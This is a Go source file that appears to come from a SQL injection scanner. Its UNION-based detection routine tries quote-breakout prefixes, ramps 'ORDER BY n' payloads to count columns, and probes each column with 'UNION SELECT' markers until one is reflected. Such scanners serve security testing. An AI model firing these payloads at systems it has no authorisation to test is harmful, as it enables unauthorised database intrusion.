package detect

import (
	"context"
	"fmt"
	"strings"

	"go.uber.org/zap"

	"github.com/0xf61/sqlhound/api/schemas"
	"github.com/0xf61/sqlhound/internal/fingerprint"
	"github.com/0xf61/sqlhound/internal/httpx"
)

// unionPrefixes are the string-breakout prefixes tried ahead of each
// ORDER BY ramp.
var unionPrefixes = []string{"", "'", `"`, "')"}

// unionScan locates the column count by ramping ORDER BY n until the
// response diverges from baseline, then probes each column with a unique
// marker until one reflects. Returns nil when no structure is found.
func (d *Detector) unionScan(ctx context.Context, point *schemas.InjectionPoint, base *Baseline, logger *zap.Logger) (*schemas.UnionInfo, schemas.Payload, error) {
	for _, prefix := range unionPrefixes {
		count, err := d.orderByRamp(ctx, point, base, prefix)
		if err != nil {
			return nil, schemas.Payload{}, err
		}
		if count == 0 {
			continue
		}
		logger.Debug("order by ramp found column count",
			zap.String("prefix", prefix), zap.Int("columns", count))

		info, payload, err := d.probeMarkerColumns(ctx, point, prefix, count)
		if err != nil {
			return nil, schemas.Payload{}, err
		}
		if info != nil {
			return info, payload, nil
		}
		// Column count without reflection is still a structure signal,
		// but not a confirmable finding; keep trying other prefixes.
	}
	return nil, schemas.Payload{}, nil
}

// orderByRamp returns the last n for which ORDER BY n matched baseline,
// zero when even ORDER BY 1 diverges (the prefix does not apply).
func (d *Detector) orderByRamp(ctx context.Context, point *schemas.InjectionPoint, base *Baseline, prefix string) (int, error) {
	matched := 0
	for n := 1; n <= d.cfg.Detection.UnionMaxColumns; n++ {
		body := fmt.Sprintf("%s ORDER BY %d-- ", prefix, n)
		resp, err := d.transport.Do(ctx, specFor(point, injected(point, body)))
		if err != nil {
			return 0, err
		}
		if resp.TransportErr != nil || httpx.IsBlocked(resp) {
			return matched, nil
		}
		same := fingerprint.Same(fingerprint.Hash(resp.Body), base.Fingerprint, d.cfg.Detection.SameDistance) &&
			resp.StatusCode == base.StatusCode
		if !same {
			return matched, nil
		}
		matched = n
	}
	// Never diverged: ORDER BY is probably being ignored entirely.
	return 0, nil
}

// probeMarkerColumns injects UNION SELECT NULL,...,marker,...,NULL for
// each column position until the marker reflects in the body.
func (d *Detector) probeMarkerColumns(ctx context.Context, point *schemas.InjectionPoint, prefix string, count int) (*schemas.UnionInfo, schemas.Payload, error) {
	for col := 1; col <= count; col++ {
		marker := newMarker()
		cols := make([]string, count)
		for i := range cols {
			cols[i] = "NULL"
		}
		cols[col-1] = "'" + marker + "'"
		body := fmt.Sprintf("%s UNION SELECT %s-- ", prefix, strings.Join(cols, ","))

		resp, err := d.transport.Do(ctx, specFor(point, injected(point, body)))
		if err != nil {
			return nil, schemas.Payload{}, err
		}
		if resp.TransportErr != nil || httpx.IsBlocked(resp) {
			continue
		}
		if strings.Contains(string(resp.Body), marker) {
			info := &schemas.UnionInfo{
				ColumnCount:     count,
				ReflectedColumn: col,
				Prefix:          prefix,
			}
			payload := schemas.Payload{
				Technique: schemas.TechniqueUnionBased,
				Body:      body,
				Family:    "UNION_MARKER",
			}
			return info, payload, nil
		}
	}
	return nil, schemas.Payload{}, nil
}
